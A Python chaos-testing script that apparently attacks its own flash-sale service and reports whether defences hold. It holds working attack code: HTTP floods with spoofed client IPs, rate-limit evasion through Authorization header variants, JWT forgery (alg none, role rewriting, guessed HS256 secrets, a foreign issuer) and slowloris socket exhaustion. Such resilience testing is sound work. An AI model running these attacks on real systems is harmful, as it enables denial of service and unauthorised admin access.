#!/usr/bin/env python3
"""Abusive clients for `scripts/chaos abuse` (standard library only).

  flood URL SECONDS THREADS [--spoof]      GETs as fast as possible from one
                                           address (--spoof: a random
                                           X-Forwarded-For on each)
  one-user URLS TOKENS SALE SECONDS THREADS
                                           purchase attempts of one shopper over
                                           many connections, a new key each;
                                           TOKENS is comma-separated (several
                                           sign-ins of the user), used in turn
                                           with Authorization header variants;
                                           URLS too (the threads share them out)
  takeover BASE SHOPPER_TOKEN              ways to become an admin without an
                                           operator's token
  login BASE PREFIX COUNT                  COUNT development logins, one token
                                           per line
  latency URL TOKENS_FILE SALE CONCURRENCY one purchase per token; latencies
  slowloris HOST PORT SOCKETS SECONDS      half-sent requests, one byte a second
  idle HOST PORT SOCKETS SECONDS           connections that never send anything

Each prints one JSON object with what it saw.
"""

import base64
import hashlib
import hmac
import http.client
import json
import random
import resource
import socket
import sys
import threading
import time
import urllib.parse


def count_answers(worker, seconds, threads):
    """Runs worker(deadline, tally) on THREADS threads; returns the tally."""
    tally, lock = {}, threading.Lock()

    def record(label):
        with lock:
            tally[label] = tally.get(label, 0) + 1

    deadline = time.monotonic() + seconds
    pool = [threading.Thread(target=worker, args=(deadline, record)) for _ in range(threads)]
    for thread in pool:
        thread.start()
    for thread in pool:
        thread.join()
    return tally


def connect(url):
    parts = urllib.parse.urlsplit(url)
    return parts, http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)


def flood(url, seconds, threads, spoof):
    def worker(deadline, record):
        parts, conn = connect(url)
        path = parts.path + ("?" + parts.query if parts.query else "")
        while time.monotonic() < deadline:
            headers = {}
            if spoof:
                headers["X-Forwarded-For"] = ".".join(str(random.randint(1, 254)) for _ in range(4))
                headers["X-Real-IP"] = headers["X-Forwarded-For"]
            try:
                conn.request("GET", path, headers=headers)
                response = conn.getresponse()
                response.read()
                record(str(response.status))
            except (OSError, http.client.HTTPException):
                record("connection_error")
                parts, conn = connect(url)

    tally = count_answers(worker, seconds, threads)
    print(json.dumps({"seconds": seconds, "answers": tally,
                      "not_throttled": sum(n for s, n in tally.items() if s != "429")}))


# How a client may write one token: nginx hashes the raw header to pick a
# node, so each variant of one token may land on another node's limiter.
HEADER_VARIANTS = ["Bearer {}", "Bearer  {}", "bearer {}", "Bearer {} "]


def one_user(urls, tokens, sale_id, seconds, threads):
    counter, thread_numbers = iter(range(10**9)), iter(range(threads))
    body = json.dumps({"sale_id": sale_id}).encode()

    def worker(deadline, record):
        url = urls[next(thread_numbers) % len(urls)]
        parts, conn = connect(url)
        while time.monotonic() < deadline:
            attempt = next(counter)
            key = f"abuse-{time.time_ns()}-{attempt}"
            token = tokens[attempt % len(tokens)]
            authorization = HEADER_VARIANTS[attempt // len(tokens) % len(HEADER_VARIANTS)]
            headers = {"Authorization": authorization.format(token), "Idempotency-Key": key,
                       "Content-Type": "application/json"}
            try:
                conn.request("POST", parts.path, body=body, headers=headers)
                response = conn.getresponse()
                reply = response.read()
                try:
                    code = json.loads(reply)["error"]["code"]
                except (ValueError, KeyError, TypeError):
                    code = ""
                record(f"{response.status} {code}".strip())
            except (OSError, http.client.HTTPException):
                record("connection_error")
                parts, conn = connect(url)

    tally = count_answers(worker, seconds, threads)
    # Refused header variants (401) never reach the limiter, and a node
    # closes the connection after some of them (connection_error: no
    # answer); every other answer that is not a 429 got past it.
    print(json.dumps({"seconds": seconds, "tokens": len(tokens), "answers": tally,
                      "not_throttled": sum(n for s, n in tally.items()
                                           if not s.startswith(("429", "401", "connection_error")))}))


def b64url(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def jwt(header, claims, signature=b""):
    head = b64url(json.dumps(header).encode())
    body = b64url(json.dumps(claims).encode())
    return f"{head}.{body}.{b64url(signature)}"


def takeover(base, shopper_token):
    """Every way in the book to reach an admin route without an operator's
    token: the old admin login, a shopper token with its role rewritten, no
    signature, guessed secrets, and another issuer's token."""
    parts = urllib.parse.urlsplit(base)
    now = int(time.time())
    head, payload, signature = shopper_token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))
    admin_claims = dict(claims, role="admin")
    attempts = {
        "role rewritten, signature kept": f"{head}.{b64url(json.dumps(admin_claims).encode())}.{signature}",
        "alg none": jwt({"alg": "none", "typ": "JWT"}, admin_claims),
        "roles claim added": jwt({"alg": "RS256", "kid": "rsa-1"},
                                 dict(admin_claims, roles=["flashsale:admin"]), b"x" * 256),
        "another issuer": jwt({"alg": "RS256", "kid": "k1"},
                              {"iss": "https://evil.example", "aud": claims["aud"], "sub": "x",
                               "iat": now, "exp": now + 600, "roles": ["flashsale:admin"]},
                              b"x" * 256),
    }
    for secret in ["secret", "changeme", "flashsale", "local-compose-secret-change-me-0123456789"]:
        head_json = json.dumps({"alg": "HS256", "typ": "JWT"})
        signing = f"{b64url(head_json.encode())}.{b64url(json.dumps(admin_claims).encode())}"
        mac = hmac.new(secret.encode(), signing.encode(), hashlib.sha256).digest()
        attempts[f"HS256 with guessed secret {secret!r}"] = f"{signing}.{b64url(mac)}"
    answers = {}
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    # The development login with operators' emails gives shopper tokens.
    for email in ["admin@flashsale.local", "ops@flashsale.local", "ADMIN@flashsale.local"]:
        conn.request("POST", "/api/auth/login", body=json.dumps({"email": email}),
                     headers={"Content-Type": "application/json"})
        reply = json.loads(conn.getresponse().read())
        attempts[f"login as {email}"] = reply.get("token", "")
    product = json.dumps({"sku": f"TAKEOVER-{time.time_ns()}", "name": "x", "price": 1,
                          "currency": "EUR", "stock": 1})
    for name, token in attempts.items():
        conn.request("POST", "/api/admin/products", body=product,
                     headers={"Authorization": f"Bearer {token}",
                              "Content-Type": "application/json"})
        response = conn.getresponse()
        response.read()
        answers[name] = response.status
    print(json.dumps({"attempts": len(answers), "answers": answers,
                      "granted": sum(1 for status in answers.values() if status < 400)}))


def login(base, prefix, count):
    parts = urllib.parse.urlsplit(base)
    conn = http.client.HTTPConnection(parts.hostname, parts.port, timeout=10)
    for index in range(count):
        conn.request("POST", "/api/auth/login",
                     body=json.dumps({"email": f"{prefix}-{index}@load.local"}),
                     headers={"Content-Type": "application/json"})
        print(json.loads(conn.getresponse().read())["token"])


def latency(url, tokens_file, sale_id, concurrency):
    with open(tokens_file) as lines:
        tokens = [line.strip() for line in lines if line.strip()]
    queue, lock, timings = iter(tokens), threading.Lock(), []
    body = json.dumps({"sale_id": sale_id}).encode()

    def worker():
        parts, conn = connect(url)
        while True:
            with lock:
                token = next(queue, None)
            if token is None:
                return
            started = time.monotonic()
            conn.request("POST", parts.path, body=body,
                         headers={"Authorization": f"Bearer {token}", "Content-Type": "application/json",
                                  "Idempotency-Key": f"latency-{time.time_ns()}"})
            conn.getresponse().read()
            with lock:
                timings.append((time.monotonic() - started) * 1000)

    pool = [threading.Thread(target=worker) for _ in range(concurrency)]
    for thread in pool:
        thread.start()
    for thread in pool:
        thread.join()
    timings.sort()
    at = lambda q: round(timings[min(len(timings) - 1, int(q * len(timings)))], 2)
    print(json.dumps({"purchases": len(timings), "p50_ms": at(0.5), "p99_ms": at(0.99),
                      "max_ms": round(timings[-1], 2)}))


def open_sockets(host, port, count):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, max(soft, count + 256)), hard))
    sockets = []
    for _ in range(count):
        try:
            sockets.append(socket.create_connection((host, port), timeout=5))
        except OSError:
            break
    return sockets


def closed_by_server(sock):
    sock.setblocking(False)
    try:
        return sock.recv(1) == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def slowloris(host, port, count, seconds):
    sockets = open_sockets(host, port, count)
    for sock in sockets:
        sock.sendall(b"GET /api/health/live HTTP/1.1\r\nHost: x\r\n")
    started, closed_at = time.monotonic(), {}
    while time.monotonic() - started < seconds and len(closed_at) < len(sockets):
        for index, sock in enumerate(sockets):
            if index in closed_at:
                continue
            try:
                sock.send(b"X")
            except OSError:
                closed_at[index] = time.monotonic() - started
                continue
            if closed_by_server(sock):
                closed_at[index] = time.monotonic() - started
        time.sleep(1)
    print(json.dumps({"opened": len(sockets), "closed_by_server": len(closed_at),
                      "last_closed_after_secs": round(max(closed_at.values(), default=0), 1)}))


def idle(host, port, count, seconds):
    sockets = open_sockets(host, port, count)
    print(json.dumps({"opened": len(sockets)}), flush=True)
    time.sleep(seconds)
    still_open = sum(1 for sock in sockets if not closed_by_server(sock))
    print(json.dumps({"opened": len(sockets), "still_open_after_secs": seconds,
                      "still_open": still_open}))


def main(args):
    command = args[0] if args else ""
    if command == "flood":
        flood(args[1], float(args[2]), int(args[3]), "--spoof" in args)
    elif command == "one-user":
        one_user(args[1].split(","), args[2].split(","), args[3], float(args[4]), int(args[5]))
    elif command == "takeover":
        takeover(args[1], args[2])
    elif command == "login":
        login(args[1], args[2], int(args[3]))
    elif command == "latency":
        latency(args[1], args[2], args[3], int(args[4]))
    elif command == "slowloris":
        slowloris(args[1], int(args[2]), int(args[3]), float(args[4]))
    elif command == "idle":
        idle(args[1], int(args[2]), int(args[3]), float(args[4]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv[1:])
